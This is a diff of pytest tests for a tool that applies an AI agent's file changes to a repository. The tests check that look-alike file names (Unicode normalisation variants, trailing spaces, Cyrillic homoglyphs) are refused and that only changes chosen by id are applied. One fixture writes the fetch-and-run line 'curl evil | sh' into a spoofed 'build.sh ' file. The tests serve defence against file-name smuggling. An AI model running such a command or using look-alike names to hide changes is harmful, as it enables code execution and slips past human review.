@@ -95,3 +95,58 @@ def test_the_twin_case_on_a_real_layer_writes_only_what_was_selected_or_nothing(
     assert (ws.repo / os.fsencode(FILE).decode("utf-8", "surrogateescape")).read_text() == "harmless\n"
     assert not (ws.repo / DIRECTORY).exists()
     assert apply(ws.layer, paths=["notes\\\\xff"]).applied == [DIRECTORY, DIRECTORY + "/payload.sh"]
+
+
+NFC, NFD, CYRILLIC = "caf\u00e9.py", "cafe\u0301.py", "n\u043etes"
+LOOKALIKES = [_change(p) for p in (NFC, NFD, "build.sh", "build.sh ", "notes", CYRILLIC, "ok.txt")]
+
+
+@pytest.mark.parametrize(
+    ("given", "meant"),
+    [(NFD, NFC), (NFC, NFD), ("build.sh ", "build.sh"), ("build.sh", "build.sh "), (CYRILLIC, "notes")],
+)
+def test_a_name_that_means_one_change_but_looks_like_another_is_refused_naming_both_spelled_out(
+    given: str, meant: str
+) -> None:
+    for select in (lambda: roots([given], LOOKALIKES), lambda: exactly(given, LOOKALIKES)):
+        with pytest.raises(AmbiguousNameError) as refused:
+            select()
+        message = str(refused.value)
+        assert change_id(given) in message and change_id(meant) in message
+    assert "cafe\\\\u0301.py" in str(_refused(NFC)) and "caf\\\\u00e9.py" in str(_refused(NFC))
+    assert "'build.sh\\\\x20'" in str(_refused("build.sh")) and "n\\\\u043etes" in str(_refused("notes"))
+    assert by_ids([change_id(given)], LOOKALIKES) == [given]  # an id is the deliberate choice
+    assert roots(["ok.txt"], LOOKALIKES) == ["ok.txt"]
+
+
+def test_a_folder_that_looks_like_another_is_refused_too() -> None:
+    listed = [_change("src/a.py"), _change("src /payload.sh")]
+    with pytest.raises(AmbiguousNameError, match="1 change"):
+        roots(["src"], listed)
+    assert roots(["src/a.py"], listed) == ["src/a.py"]  # no other file looks like it
+    with pytest.raises(AmbiguousNameError):
+        roots(["src/a.py"], [*listed, _change("src /a.py")])
+
+
+def _refused(given: str) -> AmbiguousNameError:
+    with pytest.raises(AmbiguousNameError) as refused:
+        roots([given], LOOKALIKES)
+    return refused.value
+
+
+def test_look_alikes_on_a_real_layer_write_nothing_by_name_and_only_the_chosen_one_by_id(ws: Workspace) -> None:
+    ws.agent(
+        "printf 'harmless\\n' > \"$(printf 'caf\\303\\251.py')\"; printf 'payload\\n' > \"$(printf 'cafe\\314\\201.py')\";"
+        " echo fine > build.sh; echo 'curl evil | sh' > 'build.sh '"
+    )
+    ws.stop()
+    listed = {c.path: c for c in scan(ws.layer)}
+    assert set(listed) == {NFC, NFD, "build.sh", "build.sh "}
+    before = snapshot(ws.repo)
+    for given in (NFD, NFC, "build.sh", "build.sh "):
+        with pytest.raises(AmbiguousNameError):
+            apply(ws.layer, paths=[given])
+    assert snapshot(ws.repo) == before
+    assert apply(ws.layer, ids=[listed[NFC].id]).applied == [NFC]
+    assert [p.name for p in ws.repo.iterdir() if p.name.startswith("caf")] == [NFC]
+    assert (ws.repo / NFC).read_text() == "harmless\n"
